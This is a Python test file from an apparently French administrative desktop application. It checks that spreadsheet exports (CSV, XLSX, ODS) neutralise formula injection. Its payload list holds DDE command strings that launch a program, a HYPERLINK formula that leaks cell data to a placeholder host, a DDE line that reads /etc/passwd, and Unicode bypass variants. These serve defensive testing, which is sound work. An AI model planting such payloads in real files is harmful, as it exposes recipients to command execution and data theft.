"""U03: whatever somebody typed, a list opened in a spreadsheet calculates nothing, calls nobody and loses no word."""

import csv
import io
import re
import shutil
import subprocess
import zipfile
from collections.abc import Sequence
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from mvl_desktop.documents.printer import DocumentPrinter
from mvl_desktop.domain.cells import is_active, safe_cell
from mvl_desktop.domain.champ import DeclaredField
from mvl_desktop.domain.kinds import required
from mvl_desktop.domain.periode import Periode
from mvl_desktop.domain.petits_nombres import SEUIL, for_leaving
from mvl_desktop.ports.printing import SPREADSHEETS, Listing
from mvl_desktop.ports.store import Query
from mvl_desktop.services.bilans import comment_bilan, prepare_bilan
from mvl_desktop.services.bilans_export import export_bilan
from mvl_desktop.services.exports import Wish, export_list
from mvl_desktop.services.figure_charts import chart_of
from mvl_desktop.services.figure_export import FigureWish, export_figure
from mvl_desktop.services.figure_leaves import leaf_of, leaf_of_chart
from mvl_desktop.services.records import add_record, modify_record
from mvl_desktop.services.serie_charts import list_series
from mvl_desktop.services.statistiques import figure
from tests.fakes.offices import Office, open_office
from tests.fakes.world import ROOT

BARE = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://exemple.invalid/?fuite="&A2;"Cliquez")',
    '=WEBSERVICE("http://exemple.invalid")',
    '=DDE("soffice";"/etc/passwd";"1")',
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "|calc",
    "%0A=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(A1)",
]
AROUND = ["", " ", "   ", '"', "'", "\ufeff", "\u00a0", "\u202f", "\u200b", "« ", '"\u00a0"', "\u3000"]
PAYLOADS = [around + bare for bare in BARE for around in AROUND]
INNOCENT = ["Stage de jeûne", "93-2026-K7-0012", "l’été", "a=b", "1234", "2026-11-03", "oui", "http://exemple.invalid"]
PRINTER = DocumentPrinter(ROOT / "resources")


def made(ending: str, texts: list[str], folder: Path) -> Path:
    listing = Listing("Liste", ("Texte",), [(text,) for text in texts], (("Pour", texts[0]),), texts[0])
    path = folder / f"liste{ending}"
    path.write_bytes(PRINTER.listing(listing, ending))
    return path


def letters(text: object) -> str:
    """Return what is written in a cell, its blanks left out: readers fold them each in its way."""
    return re.sub(r"\s", "", str(text))


def cells(path: Path) -> Sequence[object]:
    if path.suffix == ".csv":
        with path.open(encoding="utf-8-sig", newline="") as source:
            return [row[0] for row in csv.reader(source, delimiter=";")][1:]
    rows = CalamineWorkbook.from_path(path).get_sheet_by_index(0).to_python(skip_empty_area=False)
    return [row[0] for row in rows][1:]


def test_every_payload_is_seen_and_an_apostrophe_stands_before_it() -> None:
    assert [payload for payload in PAYLOADS if not is_active(payload)] == []
    assert [safe_cell(payload) for payload in PAYLOADS] == ["'" + payload for payload in PAYLOADS]


def test_what_is_no_formula_is_left_as_it_is() -> None:
    assert [safe_cell(text) for text in INNOCENT] == INNOCENT


def test_a_csv_begins_with_its_mark_and_no_field_with_an_order(tmp_path: Path) -> None:
    path = made(".csv", [*PAYLOADS, *INNOCENT], tmp_path)
    assert path.read_bytes().startswith("\ufeff".encode())
    found = cells(path)
    assert found == [*("'" + payload for payload in PAYLOADS), *INNOCENT]
    assert all(str(cell).startswith("'") for cell in found if is_active(str(cell)))
    raw = path.read_text("utf-8-sig")
    for delimiter in (",", "\t", ";"):
        for row in csv.reader(io.StringIO(raw, newline=""), delimiter=delimiter):
            assert not any(is_active(cell) for cell in row if not cell.startswith("'")), (delimiter, row)


@pytest.mark.parametrize("ending", [".xlsx", ".ods"])
def test_texts_stay_texts_and_none_is_lost(tmp_path: Path, ending: str) -> None:
    texts = [*PAYLOADS, *INNOCENT]
    found = cells(made(ending, texts, tmp_path))
    assert all(isinstance(cell, str) for cell in found)
    assert [letters(cell) for cell in found] == [letters(text) for text in texts]


@pytest.mark.parametrize("ending", [".xlsx", ".ods"])
def test_no_part_of_the_file_holds_a_formula_a_link_or_a_macro(tmp_path: Path, ending: str) -> None:
    with zipfile.ZipFile(made(ending, [*PAYLOADS, *INNOCENT], tmp_path)) as archive:
        assert archive.testzip() is None
        names = archive.namelist()
        said = "".join(archive.read(name).decode("utf-8") for name in names)
    assert not [name for name in names if re.search("macro|vba|external|script|connection|query", name, re.I)]
    tags = " ".join(re.findall("<[^>]*>", said))
    assert not re.search(r"<f[ >]|table:formula|<hyperlinks?[ >]|xlink:href|externalLink|ddeLink|<[a-z:]*script", tags)
    typed = re.findall(r'<c [^>]*t="(\w+)"', said) if ending == ".xlsx" else re.findall(r'value-type="(\w+)"', said)
    assert set(typed) <= {"s", "string"}


def test_what_might_be_a_formula_keeps_its_apostrophe_in_xlsx_once_it_is_edited(tmp_path: Path) -> None:
    with zipfile.ZipFile(made(".xlsx", ["=1+1", "Innocent"], tmp_path)) as archive:
        styles = archive.read("xl/styles.xml").decode()
    assert styles.count('quotePrefix="1"') == 1


@settings(max_examples=60, deadline=None)
@given(texts=st.lists(st.text(st.characters(codec="utf-8"), max_size=60), min_size=1, max_size=8))
def test_any_text_at_all_makes_a_sound_file(texts: list[str], tmp_path_factory: pytest.TempPathFactory) -> None:
    folder = tmp_path_factory.mktemp("liste")
    for ending in SPREADSHEETS:
        found = cells(made(ending, [*texts, "fin"], folder))
        assert found[-1] == "fin"
        assert len(found) == len(texts) + 1
        assert not any(isinstance(cell, int | float) for cell in found)


def test_a_text_longer_than_a_cell_is_cut_not_refused(tmp_path: Path) -> None:
    for ending in (".xlsx", ".ods"):
        (cell,) = cells(made(ending, ["é" * 40_000], tmp_path))
        assert 30_000 < len(str(cell)) <= 32_767


@pytest.fixture
def office(tmp_path: Path) -> Office:
    found = open_office(tmp_path, "=1+1", in_memory=True)
    found.found("=2+2")
    return found


@pytest.mark.parametrize("ending", SPREADSHEETS)
def test_a_whole_export_carries_no_formula_from_any_of_its_fields(office: Office, tmp_path: Path, ending: str) -> None:
    texts = ("objet", "titulaire", "resume", "adresse_lieu", "reference_origine")
    champs: dict[str, object] = {name: f"=HYPERLINK({name})" for name in texts}
    add_record(office.ports, "signalement", {**champs, "adresses_web": ["=A1", "+A2"]})
    wish = Wish(
        query=Query("signalement", (("titulaire", "=HYPERLINK(titulaire)"),)),
        columns=(*texts, "adresses_web"),
        destinataire="@SUM(A1)",
        whole=True,
    )
    target = tmp_path / f"liste{ending}"
    export_list(office.ports, office.printer, office.medium, office.nomenclatures, wish, target)
    if ending == ".csv":
        with target.open(encoding="utf-8-sig", newline="") as source:
            rows = list(csv.reader(source, delimiter=";"))
        assert all(cell.startswith("'") for row in rows for cell in row if is_active(cell))
        assert rows[1][0] == "'=HYPERLINK(objet)"
        assert rows[1][5] == "'=A1\n+A2"
        return
    with zipfile.ZipFile(target) as archive:
        tags = " ".join(re.findall("<[^>]*>", "".join(archive.read(name).decode() for name in archive.namelist())))
    assert not re.search(r"<f[ >]|table:formula|<hyperlinks?[ >]", tags)
    assert cells(target)[0] == "=HYPERLINK(objet)"


ACTIVITIES = (
    *("organisme", "emploi", "convention", "fiche-action", "reunion", "formation"),
    *("etude", "serie", "mise-en-garde", "bilan"),
)
"""What is directed and followed: the kinds of records that are no signalement."""
TEXTS = frozenset({"texte_court", "texte", "liste"})


def tainted(kind: str) -> dict[str, object]:
    """Return a record with a formula in every text, of its elements too."""

    def formula(field: DeclaredField) -> object:
        return ["=A1", f"+{field.name}"] if field.sort == "liste" else f"=HYPERLINK({field.name})"

    def held(field: DeclaredField) -> object:
        return [{one.name: formula(one) for one in field.champs if one.sort in TEXTS}]

    fields = [each for each in required(kind).champs if each.name not in ("pieces", "arbitrages")]
    said = {each.name: formula(each) for each in fields if each.sort in TEXTS}
    return {**said, **{each.name: held(each) for each in fields if each.sort == "elements"}}


@pytest.mark.parametrize("kind", ACTIVITIES)
def test_no_list_of_activities_carries_a_formula_from_any_of_its_fields(
    office: Office, tmp_path: Path, kind: str
) -> None:
    champs = tainted(kind)
    add_record(office.ports, kind, champs)
    for ending in SPREADSHEETS:
        target = tmp_path / f"liste{ending}"
        wish = Wish(query=Query(kind), columns=tuple(champs), whole=True)
        export_list(office.ports, office.printer, office.medium, office.nomenclatures, wish, target)
        if ending == ".csv":
            with target.open(encoding="utf-8-sig", newline="") as source:
                held = [cell for row in csv.reader(source, delimiter=";") for cell in row]
            assert all(cell.startswith("'") for cell in held if is_active(cell))
        else:
            with zipfile.ZipFile(target) as archive:
                parts = "".join(archive.read(name).decode() for name in archive.namelist())
            assert not re.search(r"<f[ >]|table:formula|<hyperlinks?[ >]", " ".join(re.findall("<[^>]*>", parts)))
            rows = CalamineWorkbook.from_path(target).get_sheet_by_index(0).to_python()
            held = [str(cell) for row in rows for cell in row]
        for name, value in champs.items():
            if isinstance(value, str):
                assert any(f"=HYPERLINK({name})" in cell for cell in held), name


def inert(target: Path) -> str:
    """Return what a whole spreadsheet says, once it is seen to hold no order."""
    if target.suffix == ".csv":
        with target.open(encoding="utf-8-sig", newline="") as source:
            held = [cell for row in csv.reader(source, delimiter=";") for cell in row]
        assert all(cell.startswith("'") for cell in held if is_active(cell))
        return "\n".join(held)
    with zipfile.ZipFile(target) as archive:
        parts = "".join(archive.read(name).decode() for name in archive.namelist())
    assert not re.search(r"<f[ >]|table:formula|<hyperlinks?[ >]|xlink:href", " ".join(re.findall("<[^>]*>", parts)))
    book = CalamineWorkbook.from_path(target)
    return "\n".join(
        str(cell) for name in book.sheet_names for row in book.get_sheet_by_name(name).to_python() for cell in row
    )


LEFT = ("figure", "serie", "bilan")
ORDERS = ("=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1")


def figures_left(office: Office, folder: Path) -> dict[str, tuple[str, ...]]:
    """Leave figures, a serie and a bilan whose every word is an order; return what each file must still say."""
    espace = office.found(ORDERS[0])
    ports, lists = office.ports, office.nomenclatures
    for count in range(6):
        add_record(
            ports, "signalement", {"objet": ORDERS[1], "recu_le": f"2026-0{count % 3 + 1}-03"}, espace=espace.id.hex()
        )
    agreed = {"intitule": ORDERS[1], "signee_le": "2025-11-27"}
    convention = add_record(ports, "convention", agreed, espace=espace.id.hex())
    named = f"ref:{espace.id.hex()}:{convention}"
    for kind, champs in (
        ("fiche-action", {"titre": ORDERS[2], "numero": ORDERS[3], "etat": "en_cours", "convention": named}),
        ("emploi", {"intitule": ORDERS[3], "fonction": "conseiller", "vacante_depuis": "2026-01-01"}),
        (
            "reunion",
            {
                "objet": ORDERS[1],
                "type_reunion": "copil",
                "etat": "tenue",
                "tenue_le": "2026-03-10",
                "decisions": [{"texte": ORDERS[0], "responsable": ORDERS[3], "etat": "a_faire"}],
            },
        ),
    ):
        add_record(ports, kind, champs, espace=espace.id.hex())
    value = {"periode": ORDERS[2], "du": "2025-01-01", "au": "2025-12-31", "valeur": "12", "ligne": ORDERS[3]}
    serie = {
        "intitule": ORDERS[0],
        "unite": ORDERS[1],
        "producteur": ORDERS[2],
        "source": ORDERS[3],
        "valeurs": [value],
    }
    add_record(ports, "serie", serie, espace=espace.id.hex())
    periode = Periode(date(2026, 1, 1), date(2026, 6, 30))
    bilan = prepare_bilan(ports, convention, periode=periode, lists=lists)
    modify_record(ports, bilan, {"intitule": ORDERS[0]})
    comment_bilan(ports, bilan, "axe_1", ORDERS[3], lists)
    by_espace = figure(ports, office.chiffres, "I1.0", periode, "espace")
    (outside,) = for_leaving([by_espace], office.chiffres.indicateurs)
    (drawn,) = list_series(ports)
    leaves = {
        "figure": leaf_of(outside, SEUIL, chart_of(outside, SEUIL)),
        "serie": leaf_of_chart(drawn.chart),
    }
    wish = FigureWish(motif="reunion", destinataire=ORDERS[3])
    for ending in SPREADSHEETS:
        for name, leaf in leaves.items():
            export_figure(ports, office.printer, office.medium, lists, leaf, wish, folder / f"{name}{ending}")
        to = folder / f"bilan{ending}"
        export_bilan(ports, office.printer, office.medium, office.chiffres, bilan, to, destinataire=ORDERS[3])
    return {"figure": ORDERS[:1], "serie": ORDERS[1:4], "bilan": (*ORDERS[:1], *ORDERS[2:4])}


def test_no_figure_no_serie_and_no_bilan_carries_a_formula(office: Office, tmp_path: Path) -> None:
    for name, said in figures_left(office, tmp_path).items():
        for ending in SPREADSHEETS:
            told = inert(tmp_path / f"{name}{ending}")
            assert [order for order in said if order not in told] == [], (name, ending)


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_reads_texts_and_nothing_to_calculate(office: Office, tmp_path: Path) -> None:
    texts = [*PAYLOADS, *INNOCENT]
    figures_left(office, tmp_path)
    for ending in SPREADSHEETS:
        source = made(ending, texts, tmp_path)
        subprocess.run(
            [
                "soffice",
                "--headless",
                "--norestore",
                f"-env:UserInstallation={(tmp_path / 'profil').as_uri()}",
                *(["--infilter=Text - txt - csv (StarCalc):59,34,76,1,,0,false,true"] if ending == ".csv" else []),
                *("--convert-to", "fods", "--outdir", str(tmp_path), str(source)),
                *(str(tmp_path / f"{name}{ending}") for name in LEFT),
            ],
            check=True,
            capture_output=True,
            timeout=240,
        )
        for name in LEFT:
            assert "table:formula" not in (tmp_path / f"{name}.fods").read_text("utf-8")
        told = (tmp_path / "liste.fods").read_text("utf-8")
        assert "table:formula" not in told
        assert "xlink:href" not in re.sub(
            "<office:(styles|meta|settings|scripts).*?</office:\\1>", "", told, flags=re.S
        )
        kinds = set(re.findall(r'<table:table-cell[^>]*office:value-type="(\w+)"', told))
        # A CSV has no types: a number or a day in it is read as one, and neither calculates.
        assert kinds <= ({"string", "float", "date"} if ending == ".csv" else {"string"})
